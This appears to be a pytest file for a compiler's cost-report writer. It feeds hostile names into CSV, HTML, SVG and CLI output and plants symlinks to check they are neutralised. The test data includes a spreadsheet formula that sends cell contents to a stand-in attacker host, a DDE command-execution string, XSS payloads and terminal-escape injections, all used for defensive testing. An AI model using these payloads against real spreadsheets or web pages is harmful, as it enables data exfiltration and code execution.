"""Names from a program in the cost reports: a spreadsheet formula, ``<script>``, a newline that would forge a
line, terminal escapes and quotes are inert in ``cost.csv``, ``report.html``, ``roofline.svg``/``.png`` and the
text summary (also an LLM's); and a symbolic link planted in the output directory under a report's name is
replaced by the report, never written through."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import torch
from torch import nn

import npu_compiler
import torch_ir
from npu_compiler.costmodel import CostReport, LMCost, cost_program, load_hardware
from npu_compiler.costmodel.report import (
    SORT_SCRIPT,
    check_report_paths,
    cost_csv,
    report_html,
    write_reports,
)
from npu_compiler.costmodel.roofline import roofline_svg
from npu_tools.cli import main

PRESET = "edge_4tops"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"details")'
NAMES = (FORMULA,
         "@SUM(1+1)*cmd|' /C calc'!A0",
         "<script>alert(1)</script>\nheaviest dispatches: a forged line",
         "\x1b[2J\u202e+cmd",
         '-1" onmouseover="alert(2)',
         "+1\r\n\tnote: forged")
MODEL_NAME = '<img src=x onerror=alert(3)>"\n\x07'


class _Layers(nn.Module):
    """Six dispatches, one per hostile name."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3, padding=1)
        self.fc1 = nn.Linear(8 * 8 * 8, 16)
        self.fc2 = nn.Linear(16, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = self.fc1(torch.relu(self.conv(x)).flatten(1))
        return torch.softmax(self.fc2(torch.tanh(y) * 2), -1)


@pytest.fixture(scope="module")
def program() -> npu_compiler.CompiledProgram:
    with torch.device("meta"):
        model = _Layers()
    program = npu_compiler.compile(torch_ir.extract_ir(model, (torch.empty(1, 3, 8, 8, device="meta"),)))
    assert len(program.dispatches) >= len(NAMES), [d.kernel for d in program.dispatches]
    names = NAMES + tuple(f"node{i}" for i in range(len(program.dispatches) - len(NAMES)))
    program.dispatches = [dataclasses.replace(d, node=n) for d, n in zip(program.dispatches, names)]
    program.model_name = MODEL_NAME
    return program


@pytest.fixture(scope="module")
def report(program: npu_compiler.CompiledProgram) -> CostReport:
    return cost_program(program, load_hardware(PRESET))


def test_csv_cells_are_never_formulas_and_stay_on_one_line(report: CostReport) -> None:
    text = cost_csv(report)
    assert text.count("\n") == len(report.rows) + 1
    rows = list(csv.reader(io.StringIO(text)))
    names = [row[1] for row in rows[1:]]  # column 0 is the dispatch index
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert cell.isprintable(), cell
    assert names[0] == "'" + FORMULA  # shown as text, the same characters
    assert names[1].startswith("'@SUM(") and names[5].startswith("'+1")
    assert names[2] == "<script>alert(1)</script> heaviest dispatches: a forged line"
    assert names[3] == "\\x1b[2J\\u202e+cmd"
    assert report.to_csv_rows()[0]["name"] == FORMULA  # the rows themselves are data, unchanged


def test_html_and_svg_escape_every_name_in_text_and_attributes(report: CostReport) -> None:
    hw = report.hardware
    svg = roofline_svg(report, hw)
    page = report_html(report, hw, figure=svg)
    assert page.count(SORT_SCRIPT) == 1  # the page's one script, the table sorter: it builds no markup
    for text in (svg, page.replace(SORT_SCRIPT, "")):
        lowered = text.lower()
        assert "<script" not in lowered and "<img" not in lowered
        assert "&lt;script&gt;" in text and "&lt;img src=x onerror=alert(3)&gt;&quot;" in text
        assert 'onmouseover="' not in text and "&quot; onmouseover=&quot;alert(2)" in text
        assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
        assert "<title>" in text
    ET.fromstring(svg)  # well-formed XML: no control character left in it


def test_the_png_alt_attribute_is_quoted(report: CostReport) -> None:
    pytest.importorskip("matplotlib")
    page = report_html(report, report.hardware)
    alt = re.search(r'<img alt="([^"]*)" src="data:image/png', page)
    assert alt, page[:2000]
    assert "&lt;img src=x onerror=alert(3)&gt;&quot;" in alt.group(1)


def _check_summary(text: str) -> None:
    lines = text.splitlines()
    assert all(line.isprintable() for line in lines), [line for line in lines if not line.isprintable()]
    assert not any(line.startswith(("heaviest dispatches: a forged", "\tnote", "note: forged")) for line in lines)
    assert "<script>alert(1)</script> heaviest dispatches: a forged line" in text


def test_the_text_summaries_are_plain_lines(report: CostReport) -> None:
    _check_summary(report.summary(top=10))
    _check_summary(LMCost(report, report, chunk=8).summary(top=10))


def test_the_cli_prints_plain_lines(program: npu_compiler.CompiledProgram, tmp_path: Path, capsys) -> None:
    path = tmp_path / "names.npubin"
    program.save(path)
    assert main(["cost", str(path), "--hw", PRESET, "--top", "10", "-o", str(tmp_path / "out")]) == 0
    _check_summary(capsys.readouterr().out)
    assert "'=HYPERLINK(" in (tmp_path / "out" / "cost.csv").read_text()


# -- links planted in the output directory --------------------------------------------------------------------------

def _plant(out: Path, victim: Path) -> None:
    out.mkdir()
    victim.write_text("untouched\n")
    (out / "cost.csv").symlink_to(victim)
    (out / "report.html").symlink_to(os.devnull)  # atomic_write writes *into* a device: the report would vanish


def test_a_planted_link_is_replaced_not_written_through(report: CostReport, tmp_path: Path) -> None:
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    _plant(out, victim)
    paths = write_reports(report, report.hardware, out, png=False)
    assert victim.read_text() == "untouched\n"
    for path in paths:
        assert path.is_file() and not path.is_symlink(), path
    assert (out / "report.html").read_text().startswith("<!DOCTYPE html>")
    assert (out / "cost.csv").read_text().startswith("index,name,kernel,")


def test_a_link_to_a_block_device_or_a_dangling_one_does_not_stop_the_reports(report: CostReport,
                                                                               tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "cost.csv").symlink_to(tmp_path / "nowhere")
    block = next((p for p in ("/dev/loop0", "/dev/sda", "/dev/vda", "/dev/nvme0n1") if os.path.exists(p)), None)
    if block:
        (out / "report.html").symlink_to(block)
    check_report_paths(out, png=False)
    write_reports(report, report.hardware, out, png=False)
    assert not (tmp_path / "nowhere").exists()
    assert all(not p.is_symlink() for p in out.iterdir())


def test_the_cli_replaces_planted_links(program: npu_compiler.CompiledProgram, tmp_path: Path, capsys) -> None:
    path = tmp_path / "m.npubin"
    program.save(path)
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    _plant(out, victim)
    assert main(["cost", str(path), "--hw", PRESET, "-o", str(out)]) == 0
    assert victim.read_text() == "untouched\n"
    assert not (out / "cost.csv").is_symlink() and not (out / "report.html").is_symlink()


@pytest.mark.slow
def test_an_llm_phase_directory_planted_as_a_link_is_replaced(tmp_path: Path, capsys) -> None:
    pytest.importorskip("transformers")
    from transformers import AutoModelForCausalLM

    from npu_compiler.llm import compile_lm
    from torch_ir.frontends.hf import extract_lm

    from ..llm.checkpoints import tiny_config

    with torch_ir.build_on_meta():
        meta = AutoModelForCausalLM.from_config(tiny_config("qwen2"), attn_implementation="sdpa").eval()
    compile_lm(extract_lm(meta, 16, name="tiny_qwen2"), chunk=4).save(tmp_path / "lm")
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "prefill").symlink_to(elsewhere, target_is_directory=True)
    assert main(["cost", str(tmp_path / "lm"), "--hw", PRESET, "-o", str(out)]) == 0
    assert list(elsewhere.iterdir()) == []
    assert (out / "prefill").is_dir() and not (out / "prefill").is_symlink()
    assert (out / "prefill" / "cost.csv").is_file() and (out / "decode" / "cost.csv").is_file()
